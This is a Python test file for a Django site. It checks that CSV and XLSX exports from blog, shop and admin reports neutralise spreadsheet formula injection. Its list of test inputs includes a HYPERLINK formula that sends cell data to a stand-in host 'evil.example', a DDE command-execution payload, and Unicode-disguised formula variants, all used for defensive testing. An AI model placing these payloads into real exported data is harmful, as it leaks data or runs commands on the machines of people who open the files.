"""No table that leaves the site holds a formula, whoever wrote the words and whichever library the table."""

import csv
import io

import pytest
import tablib
from django.http import FileResponse, HttpResponse, StreamingHttpResponse
from django.utils import timezone
from import_export.formats.base_formats import CSV, XLSX
from openpyxl import load_workbook

from cms_pages.models import BlogPage
from cms_pages.services import posts
from mentorship.services import projects
from portal.core.spreadsheets import SpreadsheetMiddleware, safe
from shop.tests import factories as shop
from shop.tests import tills

FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1+1",
    "\uff20A1",
    "=cmd|' /C calc'!A0",
    '"=1+1',
    "a;=1+1",
    'a"\n=1+1',
    "+49 151 123456",
]
PLAIN = ["", "Amina", "a = b", "-5.00", "+3", "1,234.50", "99%", "2026-11-22", "O'Brien", "'quoted", "Ünïcödé ✂"]


def cells(response) -> list[list[str]]:
    content = b"".join(response) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


def assert_harmless(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert safe(cell) == cell, f"{cell!r} would run"


@pytest.mark.parametrize("formula", [each for each in FORMULAS if each not in ('"=1+1', "a;=1+1", 'a"\n=1+1')])
def test_a_formula_is_marked_as_text_and_nothing_of_it_is_lost(formula):
    assert safe(formula) == f"'{formula}"
    assert safe(safe(formula)) == safe(formula)


@pytest.mark.parametrize("value", [*PLAIN, 5, -5, 1.5, None, True, timezone.now()])
def test_words_and_numbers_stay_what_they_are(value):
    assert safe(value) == value


def answered(rows, wrap=lambda text: HttpResponse(text, content_type="text/csv")):
    out = io.StringIO(newline="")
    csv.writer(out).writerows(rows)
    return SpreadsheetMiddleware(lambda request: wrap(out.getvalue()))(None)


def in_crumbs(text: str) -> StreamingHttpResponse:
    """A table that comes byte by byte, letters and lines cut through."""
    return StreamingHttpResponse((bytes([each]) for each in text.encode()), content_type="text/csv; charset=utf-8")


@pytest.mark.parametrize("wrap", [lambda text: HttpResponse(text, content_type="text/csv"), in_crumbs])
def test_every_table_on_its_way_out_is_made_safe(wrap):
    rows = [[formula, word] for formula in FORMULAS for word in PLAIN]

    response = answered(rows, wrap)

    found = cells(response)
    assert_harmless(found)
    assert [row[1] for row in found] == [row[1] for row in rows]
    assert [row[0].removeprefix("'") for row in found] == [row[0] for row in rows]


def test_the_mark_of_the_encoding_stays_in_front_of_the_first_cell():
    table = HttpResponse("Name\r\n=1+1\r\n".encode("utf-8-sig"), content_type="text/csv")

    made = SpreadsheetMiddleware(lambda _request: table)(None)

    assert made.content.decode() == '\ufeff"Name"\r\n"\'=1+1"\r\n'


def test_a_stray_separator_opens_no_new_cell():
    assert answered([["a;=1+1", "b"]]).content == b'"a;=1+1","b"\r\n'


def test_what_is_no_table_or_was_uploaded_is_left_alone():
    text = "=1+1\n"

    page = SpreadsheetMiddleware(lambda request: HttpResponse(text))(None)
    upload = FileResponse(io.BytesIO(text.encode()), content_type="text/csv")
    file = SpreadsheetMiddleware(lambda request: upload)(None)

    assert page.content == b"".join(file) == text.encode()


@pytest.fixture
def hostile_pages(participant):
    """Works, stories and log entries that are called like formulas."""
    blog = BlogPage.objects.child_of(participant.portfolio).get()
    for formula in FORMULAS:
        title = f"{formula} story"
        posts.publish_post(blog=blog, title=title, by=participant, now=timezone.now(), intro=formula, body=[])
        projects.create(owner=participant, by=participant, title=formula[:120], media_type="object")


@pytest.mark.django_db
@pytest.mark.parametrize("path", ["/cms/reports/site-history/", "/cms/reports/aging-pages/"])
def test_wagtails_reports(login, operator, hostile_pages, path):
    browser = login(operator)

    table = cells(browser.get(path, {"export": "csv"}))
    book = browser.get(path, {"export": "xlsx"})

    assert sum("1+1" in cell for row in table for cell in row) >= 10
    assert_harmless(table)
    sheet = load_workbook(io.BytesIO(b"".join(book))).active
    types = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert "f" not in types
    assert any("1+1" in str(cell.value) for row in sheet.iter_rows() for cell in row)


@pytest.mark.django_db
def test_oscars_orders_and_reports(login, operator, participant):
    orders = []
    for formula in FORMULAS[:6]:
        payment = tills.paid(shop.piece(participant, title=formula))
        order = payment.order
        order.shipping_address.first_name = formula
        order.shipping_address.save()
        orders.append(order)
    browser = login(operator)
    chosen = {"action": "download_selected_orders", "selected_order": [order.pk for order in orders]}

    table = cells(browser.post("/shop/dashboard/orders/", chosen))

    assert sum("1+1" in cell for row in table for cell in row) >= 4
    assert_harmless(table)
    day = {"date_from": "2000-01-01", "date_to": "2100-01-01", "download": "true"}
    for report in ("order_report", "submitted_baskets"):
        answer = browser.get("/shop/dashboard/reports/", {**day, "report_type": report})
        assert answer["Content-Type"].startswith("text/csv"), report
        assert_harmless(cells(answer))


@pytest.mark.parametrize("formula", FORMULAS)
def test_django_import_exports_formats(formula):
    rows = tablib.Dataset([formula, "5"], headers=["title", "count"])
    text = CSV().export_data(tablib.Dataset([formula, "5"], headers=["title", "count"]))

    table = cells(SpreadsheetMiddleware(lambda request: HttpResponse(text, content_type="text/csv"))(None))
    sheet = load_workbook(io.BytesIO(XLSX().export_data(rows))).active

    assert_harmless(table)
    assert "f" not in {cell.data_type for row in sheet.iter_rows() for cell in row}
